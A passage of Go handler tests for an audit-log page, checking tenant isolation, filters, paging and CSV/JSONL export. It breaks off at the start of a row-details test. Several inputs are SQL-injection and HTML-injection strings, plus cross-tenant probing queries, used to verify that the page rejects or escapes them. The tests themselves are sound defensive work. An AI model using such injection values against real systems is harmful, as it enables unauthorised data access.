package handlers_test

// Handler tests for the audit page (issue 5): tenancy, filters, keyset
// paging, row details, escaping, CSV / JSON Lines export, reviews and the
// chain status. Helpers carry an audit prefix (or hang off auditFixture) so
// they cannot clash with other test files of the package.

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"keydesk/models"
	"keydesk/models/testdb"
	"keydesk/web"
)

var auditCtx = context.Background()

// auditFixture is an app plus direct access to the log it writes.
type auditFixture struct {
	t *testing.T
	*app
}

func newAuditFixture(t *testing.T) *auditFixture {
	t.Helper()
	return &auditFixture{t: t, app: newApp(t)}
}

// actor builds the actor of a signed-up owner, for store operations that
// write history without going through the browser. IP and user agent are
// what the entries record.
func (f *auditFixture) actor(email, ip string) models.Actor {
	f.t.Helper()
	a := f.actorOf(email)
	a.Meta = models.RequestMeta{IP: ip, UserAgent: "audit-test/1.0"}
	return a
}

// masterKey is the ID of the actor's master key.
func (f *auditFixture) masterKey(actor models.Actor) uint {
	f.t.Helper()
	keys, err := f.store.ListKeys(auditCtx, actor)
	if err != nil {
		f.t.Fatal(err)
	}
	for _, k := range keys {
		if k.IsMaster {
			return k.ID
		}
	}
	f.t.Fatalf("%s has no master key", actor.Email)
	return 0
}

// renames renames the actor's master key n times ("<prefix> 000" …),
// moving the clock one second every `every` renames so that some entries
// share a timestamp (the keyset must order ties by ID).
func (f *auditFixture) renames(actor models.Actor, n, every int, prefix string) {
	f.t.Helper()
	id := f.masterKey(actor)
	for i := range n {
		if every > 0 && i%every == 0 {
			f.clock.Advance(time.Second)
		}
		if _, err := f.store.RenameKey(auditCtx, actor, id, fmt.Sprintf("%s %03d", prefix, i)); err != nil {
			f.t.Fatalf("rename %d: %v", i, err)
		}
	}
}

// entries is the whole log, oldest first, straight from the database.
func (f *auditFixture) entries() []models.AuditEntry {
	f.t.Helper()
	var es []models.AuditEntry
	if err := f.store.DB().Order("id").Find(&es).Error; err != nil {
		f.t.Fatal(err)
	}
	return es
}

// entry is one entry straight from the database.
func (f *auditFixture) entry(id uint64) models.AuditEntry {
	f.t.Helper()
	var e models.AuditEntry
	if err := f.store.DB().Where("id = ?", id).Take(&e).Error; err != nil {
		f.t.Fatalf("entry #%d: %v", id, err)
	}
	return e
}

// tree is the set of account IDs of an account and its sub-accounts.
func (f *auditFixture) tree(accountID uint) map[uint]bool {
	f.t.Helper()
	var ids []uint
	if err := f.store.DB().Model(&models.Account{}).Where("id = ? OR parent_id = ?", accountID, accountID).Pluck("id", &ids).Error; err != nil {
		f.t.Fatal(err)
	}
	m := map[uint]bool{}
	for _, id := range ids {
		m[id] = true
	}
	return m
}

// expect is what the page should show for a predicate: matching entries,
// newest first (by time, then ID), as IDs.
func (f *auditFixture) expect(match func(models.AuditEntry) bool) []uint64 {
	f.t.Helper()
	es := f.entries()
	slices.SortStableFunc(es, func(a, b models.AuditEntry) int {
		if c := b.At.Compare(a.At); c != 0 {
			return c
		}
		switch {
		case a.ID > b.ID:
			return -1
		case a.ID < b.ID:
			return 1
		}
		return 0
	})
	var ids []uint64
	for _, e := range es {
		if match(e) {
			ids = append(ids, e.ID)
		}
	}
	return ids
}

func auditInTree(tree map[uint]bool) func(models.AuditEntry) bool {
	return func(e models.AuditEntry) bool { return e.AccountID != nil && tree[*e.AccountID] }
}

// auditRowView is one row of the audit table as the page shows it.
type auditRowView struct {
	ID                        uint64
	Actor, Action, Target, IP string
	TargetRef, UA, Details    string
	Hash                      string
}

func auditRowsOf(t testing.TB, r *resp) []auditRowView {
	t.Helper()
	var rows []auditRowView
	r.doc.Find(`[data-testid="audit-table"] [data-testid="audit-row"]`).Each(func(_ int, s *goquery.Selection) {
		td := s.Find("td")
		id, err := strconv.ParseUint(strings.TrimSpace(td.Eq(0).Text()), 10, 64)
		if err != nil {
			t.Fatalf("row ID %q: %v", td.Eq(0).Text(), err)
		}
		dd := td.Eq(4).Find("dd")
		rows = append(rows, auditRowView{
			ID:        id,
			Actor:     strings.TrimSpace(td.Eq(2).Find("div").First().Text()),
			Action:    strings.TrimSpace(s.Find(`[data-testid="audit-action"]`).Text()),
			Target:    strings.TrimSpace(td.Eq(4).Find("summary").Text()),
			IP:        strings.TrimSpace(td.Eq(5).Text()),
			TargetRef: strings.Join(strings.Fields(dd.Eq(0).Text()), " "),
			UA:        strings.TrimSpace(dd.Eq(1).Text()),
			Details:   td.Eq(4).Find("pre").Text(),
			Hash:      strings.TrimSpace(s.Find(`[data-testid="audit-hash"]`).Text()),
		})
	})
	return rows
}

func auditIDs(rows []auditRowView) []uint64 {
	ids := make([]uint64, len(rows))
	for i, r := range rows {
		ids[i] = r.ID
	}
	return ids
}

// auditLink is the href of the Older or Newer link ("" when disabled).
func auditLink(r *resp, which string) string {
	href, _ := r.doc.Find(`a[data-testid="` + which + `"]`).Attr("href")
	return href
}

// auditExportAction is the action of the page's export form for format.
func auditExportAction(t testing.TB, r *resp, format string) string {
	t.Helper()
	var action string
	r.doc.Find(`form[action^="/audit/export"]`).Each(func(_ int, s *goquery.Selection) {
		a, _ := s.Attr("action")
		if u, err := url.Parse(a); err == nil && u.Query().Get("format") == format {
			action = a
		}
	})
	if action == "" {
		t.Fatalf("no %s export form on the page (status %d)", format, r.status)
	}
	return action
}

var auditHex64 = regexp.MustCompile(`^[0-9a-f]{64}$`)

// ---- Tenancy ----

func TestAuditOwnerSeesOnlyTheirAccountTree(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	alice, bob := f.client(), f.client()
	alice.signup("Alice Co", "alice@example.com")
	bob.signup("Bob Co", "bob@example.com")
	aliceActor := f.actor("alice@example.com", "198.51.100.1")
	bobActor := f.actor("bob@example.com", "198.51.100.2")
	// Alice's tree includes a sub-account: its key's entries are hers too.
	sub, _, err := f.store.CreateSubaccount(auditCtx, aliceActor, "Alice Sub", "")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.store.RenameKey(auditCtx, aliceActor, f.masterKey(aliceActor), "Alice Renamed"); err != nil {
		t.Fatal(err)
	}
	bobKey := f.masterKey(bobActor)
	if _, err := f.store.RenameKey(auditCtx, bobActor, bobKey, "Bob Secret Project"); err != nil {
		t.Fatal(err)
	}

	aliceTree := f.tree(aliceActor.AccountID)
	if !aliceTree[sub.Account.ID] {
		t.Fatal("the sub-account is not in Alice's tree")
	}
	want := f.expect(auditInTree(aliceTree))
	r := alice.get("/audit")
	if r.status != http.StatusOK {
		t.Fatalf("GET /audit: %d", r.status)
	}
	if got := auditIDs(auditRowsOf(t, r)); !slices.Equal(got, want) {
		t.Fatalf("Alice's page shows %v, want her tree's entries %v", got, want)
	}
	subRows := 0
	for _, e := range f.entries() {
		if e.AccountID != nil && *e.AccountID == sub.Account.ID {
			subRows++
		}
	}
	if subRows == 0 {
		t.Fatal("no entries were written for the sub-account")
	}
	if r.has(`#f-account`) {
		t.Error("an owner's filter form has the staff-only account field")
	}

	bobEntries := f.expect(auditInTree(f.tree(bobActor.AccountID)))
	cur := func(id uint64) string {
		e := f.entry(id)
		return models.AuditCursor{At: e.At, ID: e.ID}.String()
	}
	far := models.AuditCursor{At: f.store.Now().Add(time.Hour), ID: 1 << 40}.String()
	bobID := strconv.FormatUint(uint64(bobActor.AccountID), 10)
	hostile := []string{
		"account=" + bobID,
		"account=" + bobID + "&action=key.renamed",
		"actor=bob@example.com",
		"target=Bob",
		"target=" + strconv.FormatUint(uint64(bobKey), 10),
		"before=" + far,
		"after=0-0",
		"before=" + cur(bobEntries[0]),
		"after=" + cur(bobEntries[len(bobEntries)-1]),
		"before=" + far + "&account=" + bobID + "&actor=bob",
	}
	tenancyCheck := func(who string, c *client, query string, mine map[uint]bool, foreign ...string) {
		t.Helper()
		r := c.get("/audit?" + query)
		if strings.Contains(query, "account=") {
			// Every account filter in these queries names the other
			// tenant's account: unknown to this one (issue 15), and the
			// answer says nothing about it.
			if r.status != http.StatusNotFound {
				t.Fatalf("%s GET /audit?%s: status %d, want 404", who, query, r.status)
			}
			for _, s := range foreign {
				if strings.Contains(r.body, s) {
					t.Fatalf("%s GET /audit?%s: the 404 contains %q", who, query, s)
				}
			}
			return
		}
		if r.status != http.StatusOK {
			t.Fatalf("%s GET /audit?%s: status %d", who, query, r.status)
		}
		for _, row := range auditRowsOf(t, r) {
			if e := f.entry(row.ID); e.AccountID == nil || !mine[*e.AccountID] {
				t.Fatalf("%s GET /audit?%s shows entry #%d of account %v", who, query, row.ID, e.AccountID)
			}
		}
		// The filter form and export forms echo the query as typed; the
		// rest of the page must not mention the other account.
		r.doc.Find(`[data-testid="audit-filters"], form[action^="/audit/export"]`).Remove()
		rest, _ := r.doc.Html()
		for _, s := range foreign {
			if strings.Contains(rest, s) {
				t.Fatalf("%s GET /audit?%s: the page contains %q", who, query, s)
			}
		}
		for _, which := range []string{"older", "newer"} {
			if href := auditLink(r, which); href != "" {
				auditTenancyLinks(t, c, href, mine)
			}
		}
	}
	for _, q := range hostile {
		tenancyCheck("Alice", alice, q, aliceTree, "bob@example.com", "Bob Secret Project", "Bob Co")
	}
	// An owner may narrow to an account of their own tree; naming another
	// tenant's account answers 404 (issue 15: out of scope is unknown).
	if r := alice.get("/audit?account=" + bobID); r.status != http.StatusNotFound {
		t.Fatalf("?account=Bob: Alice gets %d, want 404", r.status)
	}
	if got := auditIDs(auditRowsOf(t, alice.get("/audit?account="+strconv.FormatUint(uint64(aliceActor.AccountID), 10)))); len(got) == 0 {
		t.Fatal("?account=Alice's own account shows nothing")
	}
	// And the other way round.
	for _, q := range []string{"", "account=" + strconv.FormatUint(uint64(aliceActor.AccountID), 10), "actor=alice", "target=Alice"} {
		tenancyCheck("Bob", bob, q, f.tree(bobActor.AccountID), "alice@example.com", "Alice Renamed", "Alice Sub")
	}

	// An export naming Bob's account is refused as unknown, with nothing
	// of Bob in it; one without the filter holds only Alice's entries.
	for _, format := range []string{"csv", "jsonl"} {
		ex := alice.submit("/audit", "/audit/export?format="+format+"&account="+bobID+"&actor=bob", nil)
		if ex.status != http.StatusNotFound || strings.Contains(ex.body, "bob@example.com") || strings.Contains(ex.body, "Bob Secret Project") {
			t.Fatalf("%s export naming Bob's account: status %d", format, ex.status)
		}
	}
	ex := alice.submit("/audit", "/audit/export?format=csv&actor=bob", nil)
	if ex.status != http.StatusOK {
		t.Fatalf("export: status %d", ex.status)
	}
	if strings.Contains(ex.body, "bob@example.com") || strings.Contains(ex.body, "Bob Secret Project") {
		t.Fatal("Alice's export contains Bob's entries")
	}
	ex = alice.submit("/audit", "/audit/export?format=jsonl", nil)
	for _, line := range strings.Split(strings.TrimSpace(ex.body), "\n") {
		var e struct {
			ID        uint64
			AccountID *uint `json:"account_id"`
		}
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("jsonl line %q: %v", line, err)
		}
		if e.ID != 0 && (e.AccountID == nil || !aliceTree[*e.AccountID]) {
			t.Fatalf("Alice's JSONL export has entry #%d of account %v", e.ID, e.AccountID)
		}
	}
}

// tenancyCheckLinks follows a page link and checks it stays in the tree.
func auditTenancyLinks(t *testing.T, c *client, href string, mine map[uint]bool) {
	t.Helper()
	r := c.get(href)
	if r.status != http.StatusOK {
		t.Fatalf("GET %s: status %d", href, r.status)
	}
	f := &auditFixture{t: t, app: c.app}
	for _, row := range auditRowsOf(t, r) {
		if e := f.entry(row.ID); e.AccountID == nil || !mine[*e.AccountID] {
			t.Fatalf("GET %s shows entry #%d of account %v", href, row.ID, e.AccountID)
		}
	}
}

func TestAuditStaffSeeEveryAccountAndFilterByAccount(t *testing.T) {
	t.Parallel()
	for _, role := range []models.Role{models.RoleAuditor, models.RoleSupport} {
		t.Run(string(role), func(t *testing.T) {
			f := newAuditFixture(t)
			f.client().signup("Alice Co", "alice@example.com")
			f.client().signup("Bob Co", "bob@example.com")
			aliceActor := f.actor("alice@example.com", "198.51.100.1")
			bobActor := f.actor("bob@example.com", "198.51.100.2")
			sub, _, err := f.store.CreateSubaccount(auditCtx, aliceActor, "Alice Sub", "")
			if err != nil {
				t.Fatal(err)
			}
			if _, err := f.store.RenameKey(auditCtx, bobActor, f.masterKey(bobActor), "Bob Secret Project"); err != nil {
				t.Fatal(err)
			}
			c := f.staff(role, string(role)+"@keydesk.example")

			r := c.get("/audit")
			if r.status != http.StatusOK {
				t.Fatalf("GET /audit: %d", r.status)
			}
			// Everything (including staff-user entries without an account),
			// newest first.
			all := f.expect(func(models.AuditEntry) bool { return true })
			if got := auditIDs(auditRowsOf(t, r)); !slices.Equal(got, all) {
				t.Fatalf("%s sees %v, want every entry %v", role, got, all)
			}
			for _, s := range []string{"alice@example.com", "bob@example.com", "Bob Secret Project"} {
				if !strings.Contains(r.body, s) {
					t.Errorf("%s's page lacks %q", role, s)
				}
			}
			if !r.has(`#f-account`) {
				t.Fatal("no account filter for staff")
			}

			// The account filter: Alice's account and its sub-account only.
			aliceID := strconv.FormatUint(uint64(aliceActor.AccountID), 10)
			r = c.get("/audit?account=" + aliceID)
			want := f.expect(auditInTree(f.tree(aliceActor.AccountID)))
			if got := auditIDs(auditRowsOf(t, r)); r.status != http.StatusOK || !slices.Equal(got, want) {
				t.Fatalf("?account=%s: status %d, rows %v, want %v", aliceID, r.status, got, want)
			}
			hasSub := false
			for _, id := range want {
				if e := f.entry(id); *e.AccountID == sub.Account.ID {
					hasSub = true
				}
			}
			if !hasSub {
				t.Fatal("the account filter leaves out the sub-account's entries")
			}
			// A sub-account's own ID narrows to that sub-account.
			subID := strconv.FormatUint(uint64(sub.Account.ID), 10)
			wantSub := f.expect(func(e models.AuditEntry) bool { return e.AccountID != nil && *e.AccountID == sub.Account.ID })
			if got := auditIDs(auditRowsOf(t, c.get("/audit?account="+subID))); len(wantSub) == 0 || !slices.Equal(got, wantSub) {
				t.Errorf("?account=%s (a sub-account): rows %v, want its entries %v", subID, got, wantSub)
			}
			if v, _ := r.doc.Find(`#f-account`).Attr("value"); v != aliceID {
				t.Errorf("account field keeps %q, want %q", v, aliceID)
			}
			if strings.Contains(r.body, "bob@example.com") {
				t.Error("?account=Alice shows Bob")
			}
			// Combined with an action, and kept in the export forms.
			bobID := strconv.FormatUint(uint64(bobActor.AccountID), 10)
			r = c.get("/audit?account=" + bobID + "&action=key.renamed")
			rows := auditRowsOf(t, r)
			if len(rows) != 1 || rows[0].Target != "Bob Secret Project" {
				t.Fatalf("?account=Bob&action=key.renamed: %+v", rows)
			}
			u, _ := url.Parse(auditExportAction(t, r, "csv"))
			if u.Query().Get("account") != bobID || u.Query().Get("action") != "key.renamed" {
				t.Fatalf("export form action %q lost the filter", u)
			}
			ex := c.submit("/audit", u.String(), nil)
			if ex.status != http.StatusOK || !strings.Contains(ex.body, "Bob Secret Project") || strings.Contains(ex.body, "alice@example.com") {
				t.Fatalf("staff export of Bob's account: status %d\n%s", ex.status, ex.body)
			}
			// A malformed account ID is an inline 400.
			for _, bad := range []string{"abc", "0", "-1", "99999999999"} {
				r := c.get("/audit?account=" + bad)
				if r.status != http.StatusBadRequest || r.text(`#f-account ~ .field-error`) != "Enter an account ID (a number)." {
					t.Errorf("?account=%s: status %d, message %q", bad, r.status, r.text(`#f-account ~ .field-error`))
				}
			}
		})
	}
}

func TestAuditNeedsSignIn(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	c := f.client()
	if r := c.get("/audit"); r.status != http.StatusSeeOther || r.header.Get("Location") != "/login?next=%2Faudit" {
		t.Fatalf("signed-out GET /audit: %d %q", r.status, r.header.Get("Location"))
	}
	tok := c.csrf("/login")
	for _, p := range []string{"/audit/export?format=csv", "/audit/reviews"} {
		if r := c.post(p, url.Values{"_csrf": {tok}, "through": {"1"}}); r.status != http.StatusUnauthorized {
			t.Errorf("signed-out POST %s: %d, want 401", p, r.status)
		}
	}
}

// ---- Filters ----

func TestAuditFiltersApplyAndStayInLinksAndExports(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	c := f.client()
	c.signup("Alice Co", "alice@example.com")
	// Day 1 (26 Nov): 55 renames from one address.
	actor := f.actor("alice@example.com", "198.51.100.7")
	f.renames(actor, 55, 3, "Name")
	// Day 3 (28 Nov): a reset and a rename from another address.
	f.clock.Advance(48 * time.Hour)
	actor = f.actor("alice@example.com", "203.0.113.9")
	key := f.masterKey(actor)
	if _, _, err := f.store.ResetSecret(auditCtx, actor, key, time.Hour); err != nil {
		t.Fatal(err)
	}
	if _, err := f.store.RenameKey(auditCtx, actor, key, "Target Needle"); err != nil {
		t.Fatal(err)
	}
	// The browser's session expired meanwhile: sign in again.
	if r := c.login("alice@example.com", testPassword); r.status != http.StatusSeeOther {
		t.Fatalf("login: %d", r.status)
	}
	mine := auditInTree(f.tree(actor.AccountID))
	day1 := time.Date(2026, 11, 26, 0, 0, 0, 0, time.UTC)
	day3 := time.Date(2026, 11, 28, 0, 0, 0, 0, time.UTC)
	onDay := func(d time.Time) func(time.Time) bool {
		return func(at time.Time) bool { return !at.Before(d) && at.Before(d.Add(24*time.Hour)) }
	}
	needleID := strconv.FormatUint(uint64(key), 10)

	for _, tc := range []struct {
		name  string
		query url.Values
		match func(models.AuditEntry) bool
	}{
		{"two actions", url.Values{"action": {"key.renamed", "secret.reset"}},
			func(e models.AuditEntry) bool { return e.Action == "key.renamed" || e.Action == "secret.reset" }},
		{"one action", url.Values{"action": {"secret.reset"}}, func(e models.AuditEntry) bool { return e.Action == "secret.reset" }},
		{"actor, any case", url.Values{"actor": {"ALICE@example"}}, func(e models.AuditEntry) bool { return true }},
		{"actor without match", url.Values{"actor": {"nobody"}}, func(e models.AuditEntry) bool { return false }},
		// Names and e-mails match from their start, in any case: a prefix is
		// one range of an index (issue 13 #6), a substring is not.
		{"target by name", url.Values{"target": {"TARGET nee"}}, func(e models.AuditEntry) bool { return e.TargetName == "Target Needle" }},
		{"target by the middle of a name", url.Values{"target": {"needle"}}, func(e models.AuditEntry) bool { return false }},
		{"target by ID", url.Values{"target": {needleID}}, func(e models.AuditEntry) bool { return e.TargetID == needleID }},
		{"ip", url.Values{"ip": {"203.0.113.9"}}, func(e models.AuditEntry) bool { return e.IP == "203.0.113.9" }},
		{"from", url.Values{"from": {"2026-11-28"}}, func(e models.AuditEntry) bool { return !e.At.Before(day3) }},
		{"to", url.Values{"to": {"2026-11-26"}}, func(e models.AuditEntry) bool { return e.At.Before(day1.Add(24 * time.Hour)) }},
		{"from and to, one day", url.Values{"from": {"2026-11-26"}, "to": {"2026-11-26"}}, func(e models.AuditEntry) bool { return onDay(day1)(e.At) }},
		{"everything combined", url.Values{"action": {"secret.reset", "key.renamed"}, "ip": {"203.0.113.9"}, "from": {"2026-11-28"}, "to": {"2026-11-28"}, "actor": {"alice"}, "target": {needleID}},
			func(e models.AuditEntry) bool {
				return (e.Action == "secret.reset" || e.Action == "key.renamed") && e.IP == "203.0.113.9" && onDay(day3)(e.At) && e.TargetID == needleID
			}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			want := f.expect(func(e models.AuditEntry) bool { return mine(e) && tc.match(e) })
			// Cases that should match something, do (else the test is vacuous).
			none := tc.name == "actor without match" || tc.name == "target by the middle of a name"
			if !none && len(want) == 0 {
				t.Fatalf("fixture: nothing matches %v", tc.query)
			}
			if none && len(want) != 0 {
				t.Fatalf("fixture: %v matches", tc.query)
			}
			r := c.get("/audit?" + tc.query.Encode())
			if r.status != http.StatusOK {
				t.Fatalf("status %d", r.status)
			}
			page1 := want[:min(len(want), models.AuditPageSize)]
			if got := auditIDs(auditRowsOf(t, r)); !slices.Equal(got, page1) {
				t.Fatalf("page 1 rows %v, want %v", got, page1)
			}
			if len(want) == 0 && !r.has(`[data-testid="audit-empty"]`) {
				t.Error("no “No entries match” message on an empty result")
			}
			// The form shows the filter as applied.
			for _, a := range tc.query["action"] {
				if !r.has(`#f-action option[value="` + a + `"][selected]`) {
					t.Errorf("action %s is not selected in the menu", a)
				}
			}
			if n := r.doc.Find(`#f-action option[selected]`).Length(); n != len(tc.query["action"]) {
				t.Errorf("%d actions selected, want %d", n, len(tc.query["action"]))
			}
			for field, id := range map[string]string{"from": "#f-from", "to": "#f-to", "actor": "#f-actor", "target": "#f-target", "ip": "#f-ip"} {
				if v, _ := r.doc.Find(id).Attr("value"); v != tc.query.Get(field) {
					t.Errorf("%s field value %q, want %q", field, v, tc.query.Get(field))
				}
			}
			// The export forms carry the same filter.
			for _, format := range []string{"csv", "jsonl"} {
				u, err := url.Parse(auditExportAction(t, r, format))
				if err != nil {
					t.Fatal(err)
				}
				q := u.Query()
				q.Del("format")
				if !auditSameQuery(q, tc.query) {
					t.Errorf("%s export action %q does not carry the filter %v", format, u, tc.query.Encode())
				}
			}
			// Paging keeps the filter both ways.
			older := auditLink(r, "older")
			if (older != "") != (len(want) > models.AuditPageSize) {
				t.Fatalf("Older link %q with %d matching entries", older, len(want))
			}
			if older == "" {
				return
			}
			u, _ := url.Parse(older)
			q := u.Query()
			if q.Get("before") == "" {
				t.Fatalf("Older link %q has no cursor", older)
			}
			q.Del("before")
			if !auditSameQuery(q, tc.query) {
				t.Fatalf("Older link %q lost the filter %v", older, tc.query.Encode())
			}
			r2 := c.get(older)
			page2 := want[models.AuditPageSize:min(len(want), 2*models.AuditPageSize)]
			if got := auditIDs(auditRowsOf(t, r2)); r2.status != http.StatusOK || !slices.Equal(got, page2) {
				t.Fatalf("older page: status %d, rows %v, want %v", r2.status, got, page2)
			}
			newer := auditLink(r2, "newer")
			u, _ = url.Parse(newer)
			q = u.Query()
			if q.Get("after") == "" {
				t.Fatalf("Newer link %q has no cursor", newer)
			}
			q.Del("after")
			if !auditSameQuery(q, tc.query) {
				t.Fatalf("Newer link %q lost the filter", newer)
			}
			if got := auditIDs(auditRowsOf(t, c.get(newer))); !slices.Equal(got, page1) {
				t.Fatalf("Newer leads to %v, want page 1 %v", got, page1)
			}
		})
	}
}

// sameQuery compares two query strings as sets of values per key.
func auditSameQuery(a, b url.Values) bool {
	if len(a) != len(b) {
		return false
	}
	for k, va := range a {
		vb := slices.Clone(b[k])
		va = slices.Clone(va)
		slices.Sort(va)
		slices.Sort(vb)
		if !slices.Equal(va, vb) {
			return false
		}
	}
	return true
}

func TestAuditInvalidFiltersAnswer400WithInlineMessage(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	c := f.client()
	c.signup("Alice Co", "alice@example.com")
	f.renames(f.actor("alice@example.com", "198.51.100.7"), 3, 1, "Name")
	for _, tc := range []struct {
		query, sel, msg string
	}{
		{"from=2026-13-45", `#f-from ~ .field-error`, "Use a date like 2026-11-26."},
		{"from=yesterday", `#f-from ~ .field-error`, "Use a date like 2026-11-26."},
		{"to=26/11/2026", `#f-to ~ .field-error`, "Use a date like 2026-11-26."},
		{"from=2026-11-27&to=2026-11-26", `#f-to ~ .field-error`, "The end date is before the start date."},
		{"ip=999.1.1.1", `#f-ip ~ .field-error`, "Enter a full IPv4 or IPv6 address."},
		{"ip=10.0.0", `#f-ip ~ .field-error`, "Enter a full IPv4 or IPv6 address."},
		{"ip=" + url.QueryEscape("1.2.3.4' OR '1'='1"), `#f-ip ~ .field-error`, "Enter a full IPv4 or IPv6 address."},
		{"action=bogus", `main [role="alert"]`, "Unknown action filter “bogus” was ignored."},
		{"action=key.renamed&action=" + url.QueryEscape("<b>x</b>"), `main [role="alert"]`, "Unknown action filter “<b>x</b>” was ignored."},
		{"before=garbage", `main [role="alert"]`, "That page link is not valid; showing the newest entries."},
		{"after=12-ab", `main [role="alert"]`, "That page link is not valid; showing the newest entries."},
		{"before=99999999999999999999-1", `main [role="alert"]`, "That page link is not valid; showing the newest entries."},
		{"after=-5", `main [role="alert"]`, "That page link is not valid; showing the newest entries."},
		{"before=1-18446744073709551615", `main [role="alert"]`, "That page link is not valid; showing the newest entries."},
		{"after=1-9223372036854775808", `main [role="alert"]`, "That page link is not valid; showing the newest entries."},
	} {
		t.Run(tc.query, func(t *testing.T) {
			r := c.get("/audit?" + tc.query)
			if r.status != http.StatusBadRequest {
				t.Fatalf("status %d, want 400", r.status)
			}
			if got := r.text("main h1"); got != "Audit log" {
				t.Fatalf("the 400 is not the audit page with the message (h1 %q)", got)
			}
			if got := r.text(tc.sel); got != tc.msg {
				t.Fatalf("message at %s: %q, want %q", tc.sel, got, tc.msg)
			}
			if strings.Contains(r.body, "<b>x</b>") {
				t.Fatal("the rejected action is echoed unescaped")
			}
			// The export refuses the same filter (it has no cursor).
			if strings.HasPrefix(tc.query, "before=") || strings.HasPrefix(tc.query, "after=") {
				return
			}
			ex := c.submit("/audit", "/audit/export?format=csv&"+tc.query, nil)
			if ex.status != http.StatusBadRequest {
				t.Fatalf("export with %s: status %d, want 400", tc.query, ex.status)
			}
		})
	}
	// Odd but valid input never fails: no 500s.
	for _, q := range []string{
		"from=0001-01-01", "to=9999-12-31", "from=0001-01-01&to=9999-12-31", "actor=" + url.QueryEscape(`%_\'"`),
		"target=" + url.QueryEscape("' OR 1=1 --"), "ip=::1", "ip=" + url.QueryEscape("::ffff:192.0.2.1"),
		"before=1-0", "after=9223372036854775807-1", "before=-9223372036854775808-1",
		"before=1-9223372036854775807", "after=0-9223372036854775807",
		"actor=" + strings.Repeat("x", 2000), "target=" + strings.Repeat("é", 2000),
	} {
		r := c.get("/audit?" + q)
		if r.status != http.StatusOK && r.status != http.StatusBadRequest {
			t.Errorf("GET /audit?%s: status %d, want 200 or 400", q, r.status)
		}
		if r.status == http.StatusBadRequest && !r.has(`main [role="alert"], .field-error`) {
			t.Errorf("GET /audit?%s: 400 without an inline message", q)
		}
	}
}

// TestAuditFilterTooBroadPrefixAnswers400: a name prefix that matches more
// names than the indexes can merge (issue 13 #6) is refused on the page and
// by the export with a message, not answered by scanning the log.
func TestAuditFilterTooBroadPrefixAnswers400(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	c := f.client()
	c.signup("Alice Co", "alice@example.com")
	f.renames(f.actor("alice@example.com", "198.51.100.7"), 25, 1, "Name")
	r := c.get("/audit?target=Name+0")
	if r.status != http.StatusBadRequest || r.text("main h1") != "Audit log" {
		t.Fatalf("status %d, h1 %q: want the audit page with 400", r.status, r.text("main h1"))
	}
	if got := r.text(`main [role="alert"]`); !strings.Contains(got, "start with “Name 0”: type more of it") {
		t.Fatalf("message %q", got)
	}
	if ex := c.submit("/audit", "/audit/export?format=csv&target=Name+0", nil); ex.status != http.StatusBadRequest {
		t.Fatalf("export: status %d, want 400", ex.status)
	}
	// Narrower, it answers: "Name 01" is Name 010 … Name 019.
	if r := c.get("/audit?target=Name+01"); r.status != http.StatusOK || r.doc.Find(`tbody tr`).Length() < 10 {
		t.Fatalf("narrower prefix: status %d, %d rows", r.status, r.doc.Find(`tbody tr`).Length())
	}
}

// ---- Paging ----

func TestAuditPagingOlderAndNewerWithoutOverlap(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	c := f.client()
	c.signup("Alice Co", "alice@example.com")
	// Several entries per second, so page boundaries fall inside ties.
	f.renames(f.actor("alice@example.com", "198.51.100.7"), 120, 7, "Name")
	want := f.expect(auditInTree(f.tree(f.actor("alice@example.com", "").AccountID)))
	if len(want) <= 2*models.AuditPageSize {
		t.Fatalf("fixture: only %d entries", len(want))
	}
	var pages []*resp
	r := c.get("/audit")
	if auditLink(r, "newer") != "" || !r.has(`span[aria-disabled="true"]`) {
		t.Fatal("page 1 has a Newer link")
	}
	var seen []uint64
	for {
		rows := auditRowsOf(t, r)
		if r.status != http.StatusOK || len(rows) == 0 {
			t.Fatalf("page %d: status %d, %d rows", len(pages)+1, r.status, len(rows))
		}
		if older := auditLink(r, "older"); older != "" && len(rows) != models.AuditPageSize {
			t.Fatalf("page %d has %d rows and an Older link", len(pages)+1, len(rows))
		}
		if len(seen) > 0 && rows[0].ID >= seen[len(seen)-1] {
			t.Fatalf("page %d overlaps the page before it", len(pages)+1)
		}
		seen = append(seen, auditIDs(rows)...)
		pages = append(pages, r)
		older := auditLink(r, "older")
		if older == "" {
			break
		}
		if len(pages) > 10 {
			t.Fatal("paging does not end")
		}
		r = c.get(older)
		if auditLink(r, "newer") == "" {
			t.Fatalf("page %d has no Newer link", len(pages)+1)
		}
	}
	if !slices.Equal(seen, want) {
		t.Fatalf("paging showed %d entries %v\nwant %d %v", len(seen), seen, len(want), want)
	}
	if len(pages) != (len(want)+models.AuditPageSize-1)/models.AuditPageSize {
		t.Fatalf("%d pages for %d entries", len(pages), len(want))
	}
	// Newer walks back through the same pages.
	for i := len(pages) - 1; i > 0; i-- {
		back := c.get(auditLink(pages[i], "newer"))
		if got, exp := auditIDs(auditRowsOf(t, back)), auditIDs(auditRowsOf(t, pages[i-1])); !slices.Equal(got, exp) {
			t.Fatalf("Newer from page %d shows %v, want page %d %v", i+1, got, i, exp)
		}
		if i == 1 && auditLink(back, "newer") != "" {
			t.Fatal("back on page 1 there is still a Newer link")
		}
	}

	// An unfiltered export holds every row the pages showed, in the same
	// order, after the export's own entry (it is the newest).
	ex := c.submit("/audit", auditExportAction(t, pages[0], "csv"), nil)
	recs, cp := auditParseCSV(t, ex)
	ids := auditCSVIDs(t, recs)
	if len(ids) == 0 || ids[0] != cp.entry || f.entry(ids[0]).Action != models.ActionAuditExported {
		t.Fatalf("the export does not start with its own audit.exported entry: %v (checkpoint %d)", ids[:min(3, len(ids))], cp.entry)
	}
	if !slices.Equal(ids[1:], seen) {
		t.Fatalf("export rows %v\nwant the pages' rows %v", ids[1:], seen)
	}
}

// ---- Rows ----

func TestAuditRowDetailsShowJSONAndHash(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	c := f.client()
